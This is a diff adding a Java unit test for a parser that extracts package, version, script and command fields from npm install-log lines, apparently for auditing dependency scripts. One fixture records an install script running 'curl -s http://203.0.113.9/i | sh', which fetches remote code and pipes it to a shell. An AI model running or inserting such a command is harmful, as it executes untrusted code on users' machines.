@@ -56,6 +56,20 @@ class PackageScriptLinesTest {
   }
 
   @Test
+  void npmsInfoLogOfADependencysScript() {
+    PackageScriptLines r = new PackageScriptLines();
+    assertThat(read(r, "npm info run core-js@3.30.0 postinstall node_modules/core-js node -e \"try{require('./postinstall')}catch(e){}\""))
+        .containsEntry(PackageScriptLines.PACKAGE, "core-js").containsEntry(PackageScriptLines.VERSION, "3.30.0")
+        .containsEntry(PackageScriptLines.SCRIPT, "postinstall")
+        .containsEntry(PackageScriptLines.COMMAND, "node -e \"try{require('./postinstall')}catch(e){}\"");
+    assertThat(read(r, "npm info run @acme/tel@1.0.0 install node_modules/@acme/tel curl -s http://203.0.113.9/i | sh"))
+        .containsEntry(PackageScriptLines.PACKAGE, "@acme/tel").containsEntry(PackageScriptLines.COMMAND,
+            "curl -s http://203.0.113.9/i | sh");
+    assertThat(read(r, "npm info run core-js@3.30.0 postinstall { code: 0, signal: null }")).isNull();
+    assertThat(read(r, "npm info run app@1.0.0 build . webpack")).isNull();
+  }
+
+  @Test
   void pnpmPipAndGem() {
     PackageScriptLines r = new PackageScriptLines();
     assertThat(read(r, "node_modules/.pnpm/sharp@0.33.4/node_modules/sharp install$ node install/check"))
